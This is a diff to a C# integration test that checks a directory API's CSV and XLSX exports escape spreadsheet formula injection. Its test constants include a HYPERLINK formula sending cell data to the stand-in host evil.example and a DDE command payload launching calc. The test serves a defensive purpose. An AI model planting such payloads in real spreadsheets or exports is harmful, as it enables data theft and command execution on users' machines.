@@ -14,7 +14,7 @@ namespace YangFan.Benchmarks.IntegrationTests.Decisions;
 public sealed class DirectoryTests(ApiFixture fixture) : ApiTest(fixture)
 {
     /// <summary>A call with two approved applications, published as a directory.</summary>
-    private async Task<(Guid CallId, JsonElement Directory, HttpClient Admin)> PublishedAsync()
+    private async Task<(Guid CallId, JsonElement Directory, HttpClient Admin)> PublishedAsync(Func<Guid, Task>? beforePublishing = null)
     {
         var admin = await AsAdminAsync();
         var s = await Reviews.ReviewScenario.InReviewAsync(Factory, admin);
@@ -31,6 +31,8 @@ public sealed class DirectoryTests(ApiFixture fixture) : ApiTest(fixture)
         }
         await admin.PostAsync($"/api/calls/{s.CallId}/decisions/release", null);
         await ExecuteAsync($"UPDATE \"Applications\" SET \"State\" = 'Approved' WHERE \"CallId\" = '{s.CallId}'");
+        if (beforePublishing is not null)
+            await beforePublishing(s.CallId);
 
         var published = await admin.PostAsync($"/api/calls/{s.CallId}/directory", null);
         await Expect.StatusAsync(published, HttpStatusCode.Created);
@@ -139,6 +141,102 @@ public sealed class DirectoryTests(ApiFixture fixture) : ApiTest(fixture)
         var rows = new MemoryStream(xlsx).Query(useHeaderRow: true).Cast<IDictionary<string, object>>().ToList();
         Assert.Equal(expected, rows.Select(r => ((string?)r["creditCode"]?.ToString(), (string?)r["organisationName"]?.ToString(), (string?)r["title"]?.ToString())));
         await Expect.ProblemAsync(await Anonymous().GetAsync($"/api/directories/{id}/export?format=pdf"), 400, "validation");
+    }
+
+    private const string FormulaName = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点此查看\")";
+    private const string FormulaTitle = "@SUM(1+1)*cmd|' /C calc'!A0";
+    private const string FormulaReason = "+撤销：复核发现项目已停止运行，依规撤销。";
+
+    [Fact]
+    public async Task Csv_and_xlsx_exports_keep_formula_like_text_as_text_in_every_field()
+    {
+        var (_, directory, admin) = await PublishedAsync(async callId =>
+        {
+            await ExecuteAsync($"UPDATE \"Organisations\" SET \"Name\" = '{FormulaName.Replace("'", "''")}' WHERE \"Id\" IN " +
+                $"(SELECT \"OrganisationId\" FROM \"Applications\" WHERE \"CallId\" = '{callId}')");
+            await ExecuteAsync($"UPDATE \"Applications\" SET \"Title\" = '{FormulaTitle.Replace("'", "''")}' WHERE \"CallId\" = '{callId}'");
+        });
+        var first = (await Anonymous().GetFromJsonAsync<JsonElement>($"/api/directories/{directory.GetProperty("id").GetGuid()}"))
+            .GetProperty("entries").GetProperty("items")[0].GetProperty("id").GetGuid();
+        var revoked = await admin.PostAsJsonAsync($"/api/directory-entries/{first}/revoke", new { reason = FormulaReason });
+        await Expect.StatusAsync(revoked, HttpStatusCode.OK);
+        var id = (await revoked.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetGuid();
+
+        var csv = await Anonymous().GetByteArrayAsync($"/api/directories/{id}/export?format=csv");
+        var records = ParseCsv(Encoding.UTF8.GetString(csv[3..]));
+        var header = records[0];
+        var rows = records.Skip(1).Select(r => header.Zip(r).ToDictionary(c => c.First, c => c.Second)).ToList();
+        Assert.Equal(2, rows.Count);
+        Assert.All(rows, r => Assert.Equal("'" + FormulaName, r["organisationName"]));
+        Assert.All(rows, r => Assert.Equal("'" + FormulaTitle, r["title"]));
+        Assert.Contains(rows, r => r["revokedReason"] == "'" + FormulaReason);
+
+        var xlsx = await Anonymous().GetByteArrayAsync($"/api/directories/{id}/export?format=xlsx");
+        var (formulas, texts) = ReadSheet(xlsx);
+        Assert.Equal(0, formulas);
+        Assert.Equal(2, texts.Count(t => t == "'" + FormulaName));
+        Assert.Equal(2, texts.Count(t => t == "'" + FormulaTitle));
+        Assert.Contains("'" + FormulaReason, texts);
+
+        foreach (var cell in records.SelectMany(r => r).Concat(texts))
+            Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0]), $"A cell starts with a formula trigger: {cell}");
+        // JSON is no spreadsheet: it keeps the text as published.
+        var json = await Anonymous().GetFromJsonAsync<JsonElement[]>($"/api/directories/{id}/export?format=json");
+        Assert.All(json!, e => Assert.Equal(FormulaName, e.GetProperty("organisationName").GetString()));
+    }
+
+    /// <summary>RFC 4180: fields separated by commas, records by CRLF, quoted fields with doubled quotes.</summary>
+    private static List<List<string>> ParseCsv(string text)
+    {
+        var records = new List<List<string>>();
+        var record = new List<string>();
+        var field = new StringBuilder();
+        var quoted = false;
+        for (var i = 0; i < text.Length; i++)
+        {
+            var c = text[i];
+            if (quoted)
+            {
+                if (c != '"') field.Append(c);
+                else if (i + 1 < text.Length && text[i + 1] == '"') field.Append(text[++i]);
+                else quoted = false;
+            }
+            else if (c == '"') quoted = true;
+            else if (c == ',') { record.Add(field.ToString()); field.Clear(); }
+            else if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n')
+            {
+                i++;
+                record.Add(field.ToString());
+                field.Clear();
+                records.Add(record);
+                record = [];
+            }
+            else field.Append(c);
+        }
+        return records;
+    }
+
+    /// <summary>The first worksheet's formula count and every text value, shared or inline, read from the package's XML.</summary>
+    private static (int Formulas, List<string> Texts) ReadSheet(byte[] xlsx)
+    {
+        using var package = new System.IO.Compression.ZipArchive(new MemoryStream(xlsx));
+        System.Xml.Linq.XDocument Part(string name)
+        {
+            using var stream = package.GetEntry(name)!.Open();
+            return System.Xml.Linq.XDocument.Load(stream);
+        }
+        System.Xml.Linq.XNamespace x = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
+        var shared = package.GetEntry("xl/sharedStrings.xml") is null ? [] :
+            Part("xl/sharedStrings.xml").Descendants(x + "si").Select(si => string.Concat(si.Descendants(x + "t").Select(t => t.Value))).ToList();
+        var sheet = Part("xl/worksheets/sheet1.xml");
+        var texts = sheet.Descendants(x + "c").Select(c => (string?)c.Attribute("t") switch
+        {
+            "s" => shared[int.Parse(c.Element(x + "v")!.Value)],
+            "inlineStr" => string.Concat(c.Descendants(x + "t").Select(t => t.Value)),
+            "str" => c.Element(x + "v")?.Value,
+            _ => null,
+        }).OfType<string>().ToList();
+        return (sheet.Descendants(x + "f").Count(), texts);
     }
 
     [Fact]
